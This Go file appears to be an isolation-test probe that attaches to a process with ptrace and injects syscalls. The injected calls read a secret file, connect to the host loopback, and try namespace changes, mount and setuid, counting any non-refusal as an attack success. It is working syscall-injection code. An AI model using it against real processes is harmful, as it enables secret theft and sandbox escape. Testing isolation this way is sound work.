package attack

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"os"
	"runtime"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

// traceProcess attaches to a process and makes it run system calls: args are its PID, a
// secret, and a port of the host's loopback. Not to be let is what should happen; a
// process that holds nothing is the other thing that may.
func traceProcess(args []string) error {
	runtime.LockOSThread()
	pid, err := strconv.Atoi(args[0])
	if err != nil {
		return err
	}
	if err := unix.PtraceAttach(pid); err != nil {
		fmt.Println("attach:", err)
		return nil
	}
	p := &puppet{pid: pid}
	if err := p.begin(); err != nil {
		return err
	}
	defer p.end()
	fd := p.call("openat", unix.SYS_OPENAT, ^uint64(99), p.poke(append([]byte(args[1]), 0)), unix.O_RDONLY)
	if fd >= 0 {
		n := p.call("read", unix.SYS_READ, uint64(fd), p.scratch, 100)
		got("the secret: %s", p.peek(int(max(n, 0))))
	}
	port, _ := strconv.Atoi(args[2])
	if s := p.call("socket", unix.SYS_SOCKET, unix.AF_INET, unix.SOCK_STREAM, 0); s >= 0 {
		address := binary.BigEndian.AppendUint16([]byte{unix.AF_INET, 0}, uint16(port))
		address = append(address, 127, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0)
		if p.call("connect", unix.SYS_CONNECT, uint64(s), p.poke(address), 16) == 0 {
			got("a connection to the host's loopback")
		}
	}
	self := p.call("pidfd_open", unix.SYS_PIDFD_OPEN, 1, 0)
	p.call("setns", unix.SYS_SETNS, uint64(self), unix.CLONE_NEWNS)
	p.call("unshare", unix.SYS_UNSHARE, unix.CLONE_NEWUSER)
	p.call("mount", unix.SYS_MOUNT, p.poke([]byte("proc\x00")), p.poke([]byte("/\x00")), p.poke([]byte("proc\x00")), 0, 0)
	p.call("fork", unix.SYS_FORK)
	p.call("execve", unix.SYS_EXECVE, p.poke([]byte("/proc/self/exe\x00")), 0, 0)
	p.call("mmap", unix.SYS_MMAP, 0, 4096, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_PRIVATE|unix.MAP_ANONYMOUS, ^uint64(0), 0)
	p.call("kill", unix.SYS_KILL, ^uint64(0), uint64(unix.SIGCONT))
	p.call("open_by_handle_at", unix.SYS_OPEN_BY_HANDLE_AT, 0, 0, 0)
	p.call("setuid", unix.SYS_SETUID, 0)
	return nil
}

// puppet is a traced process.
type puppet struct {
	pid     int
	saved   unix.PtraceRegs
	syscall uint64 // address of an instruction that enters the kernel
	scratch uint64 // memory of its stack
}

func (p *puppet) begin() error {
	if _, err := unix.Wait4(p.pid, nil, unix.WALL, nil); err != nil {
		return fmt.Errorf("wait: %w", err)
	}
	if err := unix.PtraceGetRegs(p.pid, &p.saved); err != nil {
		return fmt.Errorf("registers: %w", err)
	}
	p.scratch = (p.saved.Rsp - 1024) &^ 15
	maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", p.pid))
	if err != nil {
		return err
	}
	for line := range strings.Lines(string(maps)) {
		f := strings.Fields(line)
		if len(f) < 2 || !strings.Contains(f[1], "x") || strings.Contains(line, "vsyscall") {
			continue
		}
		from, to, _ := strings.Cut(f[0], "-")
		lo, _ := strconv.ParseUint(from, 16, 64)
		hi, _ := strconv.ParseUint(to, 16, 64)
		text := make([]byte, hi-lo)
		if _, err := unix.PtracePeekData(p.pid, uintptr(lo), text); err != nil {
			continue
		}
		if i := bytes.Index(text, []byte{0x0f, 0x05}); i >= 0 {
			p.syscall = lo + uint64(i)
			return nil
		}
	}
	return errors.New("no instruction to enter the kernel by")
}

func (p *puppet) end() {
	_ = unix.PtraceSetRegs(p.pid, &p.saved)
	_ = unix.PtraceDetach(p.pid)
}

// call is do, of which anything but a refusal is a success of the attack.
func (p *puppet) call(name string, number uint64, args ...uint64) int64 {
	result := p.do(number, args...)
	if result != -int64(unix.EPERM) {
		got("%s by the traced process: %d", name, result)
	}
	return result
}

// do makes the process call the kernel and returns what the kernel does.
func (p *puppet) do(number uint64, args ...uint64) int64 {
	r := p.saved
	r.Rip, r.Rax, r.Orig_rax = p.syscall, number, ^uint64(0)
	for i, to := range []*uint64{&r.Rdi, &r.Rsi, &r.Rdx, &r.R10, &r.R8, &r.R9} {
		if i < len(args) {
			*to = args[i]
		}
	}
	err := errors.Join(unix.PtraceSetRegs(p.pid, &r), unix.PtraceSingleStep(p.pid))
	if err == nil {
		_, err = unix.Wait4(p.pid, nil, unix.WALL, nil)
	}
	if err == nil {
		err = unix.PtraceGetRegs(p.pid, &r)
	}
	if err != nil {
		return -int64(unix.ESRCH)
	}
	return int64(r.Rax)
}

func (p *puppet) poke(b []byte) uint64 {
	for len(b)%8 != 0 {
		b = append(b, 0)
	}
	_, _ = unix.PtracePokeData(p.pid, uintptr(p.scratch), b)
	return p.scratch
}

func (p *puppet) peek(n int) []byte {
	b := make([]byte, n)
	_, _ = unix.PtracePeekData(p.pid, uintptr(p.scratch), b)
	return b
}
